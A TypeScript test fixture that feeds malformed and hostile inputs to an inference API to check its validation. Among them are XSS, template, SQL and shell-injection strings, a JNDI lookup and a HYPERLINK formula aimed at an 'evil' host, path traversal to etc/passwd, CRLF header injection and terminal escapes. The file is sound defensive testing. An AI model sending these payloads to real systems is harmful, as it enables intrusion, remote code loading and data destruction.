/** Fields of the wrong kind, and text that plays tricks on whoever shows it. */

import {
  type BadInput,
  CHAT,
  fields,
  get,
  headed,
  headTooLarge,
  passes,
  post,
  refused,
  unauthorized,
  type Verdict,
} from "./bad_input.ts";

const missing = refused(400, "missing_required_parameter");
const invalid = refused(400, "invalid_value");
const notFound = refused(404, "model_not_found");

/** A field of a chat call, as another kind of value. */
const KINDS: readonly (readonly [name: string, value: unknown, verdict: Verdict])[] = [
  ["model", undefined, missing],
  ["model", null, invalid],
  ["model", 1, invalid],
  ["model", true, invalid],
  ["model", ["m"], invalid],
  ["model", { id: "m" }, invalid],
  ["model", "", invalid],
  ["messages", undefined, missing],
  ["messages", null, invalid],
  ["messages", "hi", invalid],
  ["messages", {}, invalid],
  ["messages", [], invalid],
  ["stream", "true", invalid],
  ["stream", 1, invalid],
  ["stream", {}, invalid],
];

/** Names and texts that look like something else, or do something where they are printed. */
const TRICKS: readonly (readonly [name: string, text: string])[] = [
  ["text that turns around", "gpt-\u202e4o\u202c"],
  ["isolates without end", "\u2066\u2067\u2068".repeat(100)],
  ["Cyrillic letters", "\u0433\u0440\u0442-4\u043e"],
  ["wide letters", "\uff47\uff50\uff54\uff0d\uff14\uff4f"],
  ["letters of mathematics", "\u{1d420}\u{1d429}\u{1d42d}"],
  ["invisible characters", "gpt\u200b\u200c\u200d\u2060\ufeff-4o"],
  ["tag characters", "gpt-4o\u{e0069}\u{e0067}\u{e006e}"],
  ["variation selectors", "g\ufe0f\u{e0100}"],
  ["marks on top of each other", `a${"\u0301".repeat(5_000)}`],
  ["a family of emoji", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(200)],
  ["half a surrogate pair", "gpt\ud83d"],
  ["the halves of a pair in the wrong order", "\ude00\ud83d"],
  ["characters that are none", "\uffff\ufffe\ufdd0"],
  ["a NUL", "gpt\0-4o"],
  ["line breaks and a header", "gpt-4o\r\nx-evil: 1\r\n\r\n{}"],
  ["a line of the log", `m"}\n{"level":"ERROR","message":"forged"}`],
  ["line separators", "a\u2028b\u2029c\u0085d"],
  ["escape sequences of a terminal", "\x1b[2J\x1b]0;evil\x07\x9b31m"],
  ["backspaces", "evil\b\b\b\bgpt"],
  ["control pictures and DEL", "\x7f\u2400\u2421"],
  ["a sharp s and a dotless i", "STRA\u1e9eE-\u0131"],
  ["a character that grows in upper case", "\ufb03".repeat(1_000)],
  ["the replacement character", "\ufffd".repeat(1_000)],
  ["markup", "<script>alert(1)</script><img src=x onerror=alert(1)>"],
  ["a template", "{{7*7}}${7*7}<%= 7*7 %>#{7*7}"],
  ["a lookup", "${jndi:ldap://evil/a}"],
  ["a query", "'; DROP TABLE keys; --"],
  ["a command", "$(id)`id`|id;id"],
  ["a format", "%s%n%x{0}"],
  ["a formula", `=HYPERLINK("http://evil","m")`],
  ["a name of every object", "__proto__"],
  ["a method of every object", "hasOwnProperty"],
  ["white space", " \t\u3000"],
  ["one that is very long", "m".repeat(1_000_000)],
  ["slashes alone", "/".repeat(1_000)],
];

/** Ids of models in an address. */
const IDS: readonly (readonly [name: string, id: string, verdict: Verdict])[] = [
  ["a NUL", "a%00b", notFound],
  ["line breaks", "a%0d%0ax-evil:%201", notFound],
  ["a way up", "..%2f..%2fetc%2fpasswd", notFound],
  ["a way up, escaped twice", "%252e%252e%252fadmin", notFound],
  ["bytes that are no UTF-8", "%ff%fe", refused(400, "invalid_request")],
  ["an overlong slash", "a%c0%afb", refused(400, "invalid_request")],
  ["an escape that is none", "%zz", refused(400, "invalid_request")],
  ["an escape of another standard", "%u0041", refused(400, "invalid_request")],
  ["text that turns around", "gpt%e2%80%ae4o", notFound],
  ["markup", "%3Cscript%3Ealert(1)%3C/script%3E", notFound],
  ["thousands of characters", "m".repeat(7_900), notFound],
  ["__proto__", "__proto__", notFound],
];

const bytes = (...codes: number[]): Uint8Array => Uint8Array.from(codes);
const text = (value: string): number[] => [...new TextEncoder().encode(value)];

/** Headers that are let in or not. */
const HEADERS: readonly BadInput[] = [
  headed("a key in wide letters", ["authorization: Bearer \uff57\uff45\uff49\uff52"], unauthorized),
  headed(
    "a key with a byte of Latin-1",
    [bytes(...text("authorization: Bearer k\xe9y"))],
    unauthorized,
  ),
  headed(
    "a key of 60,000 characters",
    [`authorization: Bearer ${"k".repeat(60_000)}`],
    headTooLarge,
  ),
  headed("an empty key", ["authorization: Bearer "], unauthorized),
  headed("a key without its scheme", [({ key }) => `authorization: ${key}x`], unauthorized),
  headed(
    "a key as a password",
    [({ key }) => `authorization: Basic ${btoa(`${key}:`)}`],
    unauthorized,
  ),
  headed(
    "a list of keys",
    [({ key }) => `authorization: Bearer wrong, Bearer ${key}`],
    unauthorized,
  ),
  headed("a key and a comment", [({ key }) => `authorization: Bearer ${key} (x)`], unauthorized),
  headed(
    "the beginning of a key",
    [({ key }) => `authorization: Bearer ${key.slice(0, -1)}`],
    unauthorized,
  ),
  headed("the word null", ["authorization: Bearer null"], unauthorized),
  headed("a request id of bytes", [bytes(...text("x-request-id: "), 0xff, 0xfe)], passes),
  headed("a request id that is long", [`x-request-id: ${"a".repeat(10_000)}`], passes),
  headed("a request id that is markup", ["x-request-id: <script>alert(1)</script>"], passes),
  headed("a request id that is a lookup", ["x-request-id: ${jndi:ldap://evil/a}"], passes),
  headed("an idempotency key of bytes", [bytes(...text("idempotency-key: "), 0x80, 0xe9)], passes),
  headed("an idempotency key that is long", [`idempotency-key: ${"k".repeat(20_000)}`], passes),
  headed("a client's id with a tab", ["x-client-request-id: a\tb"], passes),
  headed("betas without end", [`openai-beta: ${"a=b,".repeat(5_000)}`], passes),
  headed("a way of thousands of stations", [`via: ${"1.1 a, ".repeat(2_000)}1.1 b`], passes),
  headed("a cookie bomb", [`cookie: ${"a=b; ".repeat(5_000)}`], passes),
];

export const badFields: readonly BadInput[] = [
  ...KINDS.map(([name, value, verdict]) =>
    fields(
      `${name} as ${value === undefined ? "nothing" : JSON.stringify(value)}`,
      () => ({ [name]: value }),
      verdict,
    )
  ),
  ...TRICKS.map(([name, model]) => fields(`a model's name: ${name}`, () => ({ model }), passes)),
  ...TRICKS.slice(0, 12).map(([name, content]) =>
    fields(
      `a user's name: ${name}`,
      () => ({ user: content, metadata: { [content]: content } }),
      passes,
    )
  ),
  ...IDS.map(([name, id, verdict]) => get(`a model's id: ${name}`, `/v1/models/${id}`, verdict)),
  ...HEADERS,
  post("embeddings of nothing", "/v1/embeddings", `{"model":"m"}`, missing),
  post("embeddings of a number", "/v1/embeddings", `{"model":"m","input":1}`, invalid),
  post("embeddings of the empty text", "/v1/embeddings", `{"model":"m","input":""}`, invalid),
  post(
    "embeddings as a stream",
    "/v1/embeddings",
    `{"model":"m","input":"a","stream":true}`,
    invalid,
  ),
  post("the service without messages", "/api/v1/inference", `{"model":"m"}`, { statuses: [400] }),
  post(
    "the service with a role of the wrong kind",
    "/api/v1/inference",
    `{"model":"m","messages":[{"role":1}]}`,
    { statuses: [400] },
  ),
  post(
    "a query that looks like fields",
    `${CHAT}?model=evil&stream=true`,
    `{"model":"m","messages":[{"role":"user","content":"hi"}]}`,
    passes,
  ),
];
